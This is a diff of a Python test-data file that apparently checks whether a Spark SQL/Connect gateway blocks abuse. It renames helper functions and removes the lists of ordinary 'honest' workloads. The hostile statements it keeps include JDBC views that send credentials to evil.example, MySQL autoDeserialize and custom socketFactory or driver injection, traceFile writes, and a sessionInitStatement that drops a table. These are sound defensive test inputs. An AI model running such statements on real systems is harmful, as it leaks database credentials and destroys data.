@@ -43,11 +43,13 @@ CONNECTED = (
 )
 
 
-def _named(more: str, name: str = "shop", source: str = "jdbc") -> str:
+def named(more: str, name: str = "shop", source: str = "jdbc") -> str:
+    """A view through a named connection."""
     return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (sparkconfig.connection '{name}', {more})"
 
 
-def _view(url: str, more: str = "", source: str = "jdbc") -> str:
+def view(url: str, more: str = "", source: str = "jdbc") -> str:
+    """A view with the password that everybody may use for one database."""
     return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (url '{url}', {_LOGIN}{more})"
 
 
@@ -201,44 +203,44 @@ STATEMENTS: Mapping[str, Sequence[str]] = {
         "SELECT concat('a', '${{system:user.name}}')",
     ],
     "send a password elsewhere": [
-        _view("jdbc:derby:memory:other;create=true"),
-        _view("jdbc:derby:memory:shop;create=true;traceFile=x"),
-        _view("jdbc:derby://evil.example:1527/shop;create=true"),
-        _view("jdbc:postgresql://evil.example/shop"),
-        _view("jdbc:postgresql://shop@evil.example/shop"),
-        _view("jdbc:mysql://evil.example/shop?autoDeserialize=true"),
-        _view("jdbc:sqlserver://shop;serverName=evil.example"),
-        _view(SHOP, ", socketFactory 'com.acme.Own'"),
-        _view(SHOP, ", traceFile '{lake}/trace'"),
-        _view(SHOP.replace("shop", "Shop"), source="org.apache.spark.sql.jdbc"),
+        view("jdbc:derby:memory:other;create=true"),
+        view("jdbc:derby:memory:shop;create=true;traceFile=x"),
+        view("jdbc:derby://evil.example:1527/shop;create=true"),
+        view("jdbc:postgresql://evil.example/shop"),
+        view("jdbc:postgresql://shop@evil.example/shop"),
+        view("jdbc:mysql://evil.example/shop?autoDeserialize=true"),
+        view("jdbc:sqlserver://shop;serverName=evil.example"),
+        view(SHOP, ", socketFactory 'com.acme.Own'"),
+        view(SHOP, ", traceFile '{lake}/trace'"),
+        view(SHOP.replace("shop", "Shop"), source="org.apache.spark.sql.jdbc"),
         "SELECT * FROM bound WITH (url 'jdbc:derby:memory:other;create=true')",
         BOUND.replace("TABLE bound", "TABLE peek").replace("memory:shop", "memory:other"),
     ],
     "take a connection apart": [
-        _named("dbtable 'sysibm.sysdummy1', url 'jdbc:derby://evil.example:1527/shop'"),
-        _named("dbtable 'sysibm.sysdummy1', `URL` 'jdbc:derby://evil.example:1527/shop'"),
-        _named("dbtable 'sysibm.sysdummy1', Password 'mine'"),
-        _named("dbtable 'sysibm.sysdummy1', user 'admin'"),
-        _named("dbtable 'sysibm.sysdummy1', driver 'com.acme.Own'"),
-        _named("dbtable 'sysibm.sysdummy1', socketFactory 'com.acme.Own'"),
-        _named("dbtable 'sysibm.sysdummy1', connectionProvider 'basic'"),
-        _named("dbtable 'sysibm.sysdummy1', sessionInitStatement 'DROP TABLE orders'"),
-        _named("dbtable 'sysibm.sysdummy1', traceFile '{lake}/trace'"),
-        _named("a 'b'", source="console"),
-        _named("path '{lake}'", source="text"),
-        _named("dbtable 'sysibm.sysdummy1', `SPARKCONFIG.Connection` 'look'"),
+        named("dbtable 'sysibm.sysdummy1', url 'jdbc:derby://evil.example:1527/shop'"),
+        named("dbtable 'sysibm.sysdummy1', `URL` 'jdbc:derby://evil.example:1527/shop'"),
+        named("dbtable 'sysibm.sysdummy1', Password 'mine'"),
+        named("dbtable 'sysibm.sysdummy1', user 'admin'"),
+        named("dbtable 'sysibm.sysdummy1', driver 'com.acme.Own'"),
+        named("dbtable 'sysibm.sysdummy1', socketFactory 'com.acme.Own'"),
+        named("dbtable 'sysibm.sysdummy1', connectionProvider 'basic'"),
+        named("dbtable 'sysibm.sysdummy1', sessionInitStatement 'DROP TABLE orders'"),
+        named("dbtable 'sysibm.sysdummy1', traceFile '{lake}/trace'"),
+        named("a 'b'", source="console"),
+        named("path '{lake}'", source="text"),
+        named("dbtable 'sysibm.sysdummy1', `SPARKCONFIG.Connection` 'look'"),
         "SELECT * FROM connected WITH (url 'jdbc:derby:memory:other;create=true')",
         "SELECT * FROM bound WITH (`sparkconfig.connection` 'shop')",
         BOUND.replace("TABLE bound", "TABLE peek").replace("(url", "(sparkconfig.connection 'shop', url"),
     ],
     "use a connection of somebody else": [
-        _named("dbtable 'sysibm.sysdummy1'", name="hidden"),
-        _named("dbtable 'sysibm.sysdummy1'", name="HIDDEN"),
-        _named("dbtable 'sysibm.sysdummy1'", name="bobs"),
-        _named("dbtable 'sysibm.sysdummy1'", name="Shop"),
-        _named("dbtable 'sysibm.sysdummy1'", name="none of these"),
-        _named("dbtable 'sysibm.sysdummy1'", name=PASSWORD),
-        _named("dbtable 'sysibm.sysdummy1'", name="hidden", source="JDBC"),
+        named("dbtable 'sysibm.sysdummy1'", name="hidden"),
+        named("dbtable 'sysibm.sysdummy1'", name="HIDDEN"),
+        named("dbtable 'sysibm.sysdummy1'", name="bobs"),
+        named("dbtable 'sysibm.sysdummy1'", name="Shop"),
+        named("dbtable 'sysibm.sysdummy1'", name="none of these"),
+        named("dbtable 'sysibm.sysdummy1'", name=PASSWORD),
+        named("dbtable 'sysibm.sysdummy1'", name="hidden", source="JDBC"),
         "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'sysibm.sysdummy1')",
         "CREATE TABLE peek (a INT) USING jdbc OPTIONS (`SparkConfig.CONNECTION` 'hidden', dbtable 'sysibm.sysdummy1')",
         "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'peek') AS SELECT 1 AS a",
@@ -367,90 +369,6 @@ CONNECT: Mapping[str, Sequence[str]] = {
     ],
 }
 """What a client of Connect tries besides, as Python expressions."""
-
-CONNECT_HONEST: Sequence[str] = (
-    "spark.createDataFrame([(1, 'a')], 'id int, name string').collect()",
-    "spark.createDataFrame([(n, 'x' * 900) for n in range(9000)], 'id int, name string').count()",
-    "spark.range(5).withColumn('a', F.expr('id * 2')).groupBy('a').count().collect()",
-    "spark.range(5).write.mode('overwrite').parquet('{lake}/dataframe')",
-    "spark.read.parquet('{lake}/dataframe').count()",
-    "spark.read.format('jdbc').options(**look, dbtable='sysibm.sysdummy1').load().count()",
-    "spark.range(3).write.format('jdbc').options(**shop, dbtable='own_frame').save()",
-    "spark.read.load(['{lake}/dataframe'], format='parquet').count()",
-    "spark.range(5).write.mode('overwrite').saveAsTable('own_rows')",
-    "spark.table('own_rows').count()",
-    "spark.range(5).writeTo('own_more').using('parquet').create()",
-    "spark.range(5).createOrReplaceTempView('own_seen')",
-    "spark.catalog.listTables()",
-    "spark.catalog.cacheTable('own_rows')",
-    "spark.catalog.dropTempView('own_seen')",
-    "rate.writeStream.format('memory').queryName('own_ticks').start().stop()",
-    "spark.range(3).cache().count()",
-)
-"""What everybody does with DataFrames."""
-
-HONEST: Mapping[str, Sequence[str]] = {
-    "a database": [
-        _view(SHOP).replace("peek", "own_orders"),
-        "SELECT count(*) FROM own_orders",
-        "SELECT count(*) FROM bound",
-    ],
-    "a named connection": [
-        _named("dbtable 'sysibm.sysdummy1'").replace("peek", "own_named"),
-        "SELECT count(*) FROM own_named",
-        "SELECT count(*) FROM connected",
-        _named("dbtable 'own_ids'").replace("OR REPLACE TEMPORARY VIEW peek", "TABLE own_ids")
-        + " AS SELECT 1L AS id",
-        "INSERT INTO own_ids SELECT 4L",
-        "SELECT assert_true(sum(id) = 5) FROM own_ids",
-        "SHOW CREATE TABLE own_ids",
-    ],
-    "queries": [
-        "SELECT 1",
-        "SELECT count(*) FROM range(10) r JOIN range(5) s ON r.id = s.id",
-        "WITH t AS (SELECT id % 3 AS k FROM range(9)) SELECT k, count(*) FROM t GROUP BY k",
-        "SELECT transform(array(1, 2), x -> x + 1)",
-        "EXPLAIN SELECT 1",
-    ],
-    "tables of the catalog": [
-        "CREATE TABLE own_table (id BIGINT, day STRING) USING parquet PARTITIONED BY (day)",
-        "INSERT INTO own_table VALUES (1, 'a'), (2, 'b')",
-        "INSERT OVERWRITE own_table SELECT id, 'c' FROM range(3)",
-        "SELECT count(*) FROM own_table WHERE day = 'c'",
-        "ALTER TABLE own_table SET TBLPROPERTIES ('team' = 'ann')",
-        "DESCRIBE TABLE EXTENDED own_table",
-        "SHOW TABLES",
-        "CREATE TABLE own_copy USING parquet AS SELECT * FROM own_table",
-        "ANALYZE TABLE own_copy COMPUTE STATISTICS",
-        "CACHE TABLE own_copy",
-        "UNCACHE TABLE own_copy",
-        "TRUNCATE TABLE own_copy",
-        "DROP TABLE own_copy",
-        "DROP TABLE own_table",
-    ],
-    "the lake": [
-        "INSERT INTO kept VALUES (1)",
-        "CREATE TABLE own_lake USING parquet LOCATION 'file:{lake}/{server}' AS SELECT id FROM range(3)",
-        "SELECT count(*) FROM parquet.`{lake}/{server}`",
-        "SELECT count(*) FROM parquet.`file:{lake}/{server}*`",
-        "CREATE TEMPORARY VIEW own_view USING parquet OPTIONS (path 'file://{lake}/{server}')",
-        "SELECT * FROM own_view",
-        "DROP VIEW own_view",
-        "DROP TABLE own_lake",
-    ],
-    "the session": [
-        "SET spark.sql.shuffle.partitions=5",
-        "SET spark.sql.adaptive.enabled=true",
-        "SET spark.sql.session.timeZone=UTC",
-        "SHOW DATABASES",
-        "USE default",
-        "CREATE TEMPORARY VIEW own_numbers AS SELECT * FROM range(3)",
-        "SHOW VIEWS",
-        "SELECT 'costs ${{5}} and $${{x'",
-        "RESET spark.sql.shuffle.partitions",
-    ],
-}
-"""What everybody does: to work as before."""
 
 
 def fill(text: str, folder: Path, server: str) -> str:
